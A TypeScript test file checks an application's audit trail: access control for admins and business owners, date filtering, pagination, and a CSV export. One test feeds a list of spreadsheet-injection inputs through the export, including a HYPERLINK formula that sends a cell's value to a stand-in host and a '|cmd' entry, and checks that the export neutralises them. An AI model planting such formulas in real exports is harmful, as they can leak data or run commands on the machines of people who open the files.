import { randomUUID } from "node:crypto";
import { eq, sql } from "drizzle-orm";
import { NextRequest } from "next/server";
import { describe, expect, it } from "vitest";
import { startApiSession } from "@/app/account/api-session";
import { GET } from "@/app/admin/audit/csv/route";
import { formatPlace } from "@/app/audit/asked";
import { exportAudit } from "@/app/audit/export";
import { readAudit, readAuditOfBusiness } from "@/app/audit/read";
import { GET as GET_OF_BUSINESS } from "@/app/inbox/settings/audit/csv/route";
import { type AuditEntry, audit } from "@/db/audit";
import { auditEntries } from "@/db/audit-parts";
import { users } from "@/db/schema";
import { AUDIT_EXPORT_ROWS_MAX, AUDIT_PAGE_SIZE } from "@/lib/audit";
import { admin, castOfSite } from "../support/viewers";

const ADDED_AT_ONCE = 2_000;

async function scene() {
  const cast = await castOfSite();
  const { db } = cast;
  const asRobin = await admin(db);
  const did = (
    kind: AuditEntry["kind"],
    by: typeof cast.sam,
    more: Partial<AuditEntry> = {},
  ): AuditEntry => ({
    ...{ actorId: by.userId, actorName: by.name, actorRole: by.role, kind },
    ...{ businessId: cast.businessId, subjectId: cast.maya.userId, ...more },
  });
  return { ...cast, asRobin, did };
}

const kindsOf = ({ entries }: Awaited<ReturnType<typeof readAudit>>) => entries.map(({ kind }) => kind);

describe("reading the audit trail [O4]", () => {
  it("is told by who, what, about whom and when, to admins and to owners of their own", async () => {
    const { db, asRobin, asNora, sam, nora, leo, did, businessId } = await scene();
    await audit(db, did("message.deleted", sam));
    await audit(db, did("message.edited", nora, { subjectId: leo.userId }));
    const [email] = await db.select({ email: users.email }).from(users).where(eq(users.id, sam.userId));
    const business = businessId;
    const all = ["message.edited", "message.deleted"];
    expect(kindsOf(await readAudit(asRobin, { business }))).toEqual(all);
    expect(kindsOf(await readAudit(asRobin, { business, who: sam.userId }))).toEqual(["message.deleted"]);
    expect(kindsOf(await readAudit(asRobin, { business, who: email?.email ?? "" }))).toEqual([
      "message.deleted",
    ]);
    expect(kindsOf(await readAudit(asRobin, { business, who: "nobody@example.com" }))).toEqual([]);
    expect(kindsOf(await readAudit(asRobin, { business: "nobody-at-all" }))).toEqual([]);
    expect(kindsOf(await readAudit(asRobin, { business, kind: "message.edited" }))).toEqual([
      "message.edited",
    ]);
    expect(kindsOf(await readAudit(asRobin, { business, subject: leo.userId }))).toEqual(["message.edited"]);
    expect(kindsOf(await readAuditOfBusiness(asNora, { businessId }))).toEqual(all);
    expect(kindsOf(await readAuditOfBusiness(asNora, { businessId, who: sam.userId }))).toEqual([
      "message.deleted",
    ]);
  });

  it("counts days by the clock of whoever asks, the last one whole", async () => {
    const { db, asRobin, sam, did, businessId: business } = await scene();
    await db.update(users).set({ timeZone: "Pacific/Auckland" }).where(eq(users.id, asRobin.id));
    for (const at of [
      "2026-05-09T11:59:59Z",
      "2026-05-09T12:00:00Z",
      "2026-05-10T11:59:59Z",
      "2026-05-10T12:00:00Z",
    ])
      await db.insert(auditEntries).values({ ...did("message.deleted", sam), at: new Date(at) });
    const { entries } = await readAudit(asRobin, { business, from: "2026-05-10", to: "2026-05-10" });
    expect(entries.map(({ at }) => at)).toEqual(["2026-05-10T11:59:59.000Z", "2026-05-09T12:00:00.000Z"]);
  });

  it("goes on page by page, with nothing twice or left out among entries of one moment", async () => {
    const { db, asNora, sam, did, businessId } = await scene();
    const count = AUDIT_PAGE_SIZE * 2 + 1;
    await audit(
      db,
      ...Array.from({ length: count }, (_, n) => did("message.deleted", sam, { subjectId: String(n) })),
    );
    const seen: (string | null)[] = [];
    let before: string | undefined;
    for (const length of [AUDIT_PAGE_SIZE, AUDIT_PAGE_SIZE, 1]) {
      const { entries, next } = await readAuditOfBusiness(asNora, { businessId, ...(before && { before }) });
      expect(entries).toHaveLength(length);
      expect(next === null).toBe(length === 1);
      seen.push(...entries.map(({ subjectId }) => subjectId));
      before = next ? formatPlace(next) : undefined;
    }
    expect(new Set(seen).size).toBe(count);
  });

  it("[S10] [S13] is nobody's but an admin's, and of a business its owners'", async () => {
    const [{ did, db, nora, businessId, ...own }, other] = [await scene(), await scene()];
    await audit(db, did("message.deleted", nora));
    for (const stranger of [own.asMaya, own.asLeo, own.asGuest, own.asSam, own.asNora, null])
      await expect(readAudit(stranger, {})).rejects.toMatchObject({
        code: stranger ? "not-found" : "unauthorized",
      });
    for (const stranger of [own.asMaya, own.asGuest, own.asSam, other.asNora, other.asSam, own.asRobin])
      await expect(readAuditOfBusiness(stranger, { businessId })).rejects.toMatchObject({
        code: "not-found",
      });
    const confined = { ...own.asRobin, confinedTo: businessId };
    await expect(readAudit(confined, {})).rejects.toMatchObject({ code: "forbidden" });
    // Whatever else is asked for, an owner is told of their own business alone.
    expect(
      kindsOf(await readAuditOfBusiness(other.asNora, { businessId: other.businessId, who: nora.userId })),
    ).toEqual([]);
    await expect(
      readAuditOfBusiness(other.asNora, { businessId: other.businessId, business: businessId } as never),
    ).rejects.toMatchObject({ code: "bad-command" });
  });

  it.each([
    { kind: "message.read" },
    { who: "sam" },
    { subject: "x".repeat(101) },
    { from: "2026-02-30" },
    { to: "soon" },
    { before: "2026-11-22T00:00:00Z" },
    { before: `2026-11-22T00:00:00Z_${"x".repeat(36)}` },
  ])("[S37] refuses %j", async (asked) => {
    const { asRobin } = await scene();
    await expect(readAudit(asRobin, asked as never)).rejects.toMatchObject({ code: "bad-command" });
  });
});

describe("the file of the audit trail [O4]", () => {
  const FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.com/"&A1)',
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\u200B=1",
    "＝1",
    "|cmd",
  ];

  async function fileOf(
    get: typeof GET,
    userId: string,
    query: Record<string, string>,
  ): Promise<{ status: number; text: string; headers: Headers }> {
    const { accessToken } = await startApiSession(userId);
    const address = `http://localhost/audit/csv?${new URLSearchParams(query)}`;
    const headers = { authorization: `Bearer ${accessToken}` };
    const response = await get(new NextRequest(address, { headers }), { params: Promise.resolve({}) });
    return { status: response.status, text: await response.text(), headers: response.headers };
  }

  it("[S25] has no formula in it, whatever people and things are called", async () => {
    const { db, nora, sam, did, businessId } = await scene();
    for (const formula of FORMULAS)
      await audit(
        db,
        did(
          "message.deleted",
          { ...sam, name: formula },
          { subjectId: formula, detail: { name: formula, reason: formula } },
        ),
      );
    const { text, headers, status } = await fileOf(GET_OF_BUSINESS, nora.userId, { businessId });
    expect(status).toBe(200);
    expect(headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(headers.get("cache-control")).toContain("no-store");
    expect(text.startsWith("at,what,who,")).toBe(true);
    const cells = text.split(/\r\n|,"?/).filter((cell) => /^[\s\p{Cf}]*[=+\-@＝|]/u.test(cell));
    expect(cells).toEqual([]);
    expect(text.match(/'=1\+1/g)).toHaveLength(2);
  });

  it("is what is asked for, is itself told of, and refuses everybody else", async () => {
    const { db, asRobin, nora, sam, maya, did, businessId } = await scene();
    await audit(db, did("message.deleted", sam), did("message.edited", nora));
    const { text } = await fileOf(GET, asRobin.id, { business: businessId, kind: "message.edited" });
    expect(text.split("\r\n")).toHaveLength(3);
    expect(text).toContain("message.edited,Nora,");
    expect((await fileOf(GET_OF_BUSINESS, nora.userId, { businessId, who: nora.userId })).text).toContain(
      "message.edited,Nora",
    );
    const told = await db.select().from(auditEntries).where(eq(auditEntries.kind, "audit.exported"));
    expect(told.find(({ actorId }) => actorId === asRobin.id)).toMatchObject({
      ...{ businessId: null, actorRole: "admin", detail: { types: "message.edited" } },
      requestId: expect.any(String),
    });
    expect(told.find(({ actorId }) => actorId === nora.userId)).toMatchObject({
      businessId,
      actorRole: "owner",
    });
    for (const { userId } of [nora, sam, maya]) expect((await fileOf(GET, userId, {})).status).toBe(404);
    for (const { userId } of [sam, maya])
      expect((await fileOf(GET_OF_BUSINESS, userId, { businessId })).status).toBe(404);
    expect((await fileOf(GET, asRobin.id, { who: "sam" })).status).toBe(400);
  });

  it("ends after so many entries, and says so; with one less it is whole", async () => {
    const { db, asRobin, did, sam } = await scene();
    const lines = async (business: string) => {
      const { pieces } = await exportAudit(asRobin, { business });
      const read: string[] = [];
      for await (const piece of pieces) read.push(piece);
      return read.join("").trimEnd().split("\r\n");
    };
    const businessId = randomUUID();
    const { actorId, actorName, actorRole } = did("message.deleted", sam);
    // One statement may take no longer than any other.
    const add = (count: number) =>
      db.execute(sql`
        insert into audit_entries (actor_id, actor_name, actor_role, business_id, kind)
        select ${actorId}::uuid, ${actorName}, ${actorRole}, ${businessId}::uuid, 'message.deleted'
        from generate_series(1, ${count})`);
    for (let count = 0; count < AUDIT_EXPORT_ROWS_MAX; count += ADDED_AT_ONCE) await add(ADDED_AT_ONCE);
    const whole = await lines(businessId);
    expect(whole).toHaveLength(1 + AUDIT_EXPORT_ROWS_MAX);
    expect(whole.at(-1)).not.toMatch(/^cut,/);
    await add(1);
    const cut = await lines(businessId);
    expect(cut).toHaveLength(1 + AUDIT_EXPORT_ROWS_MAX + 1);
    expect(cut.at(-1)).toMatch(/^cut,/);
  });
});
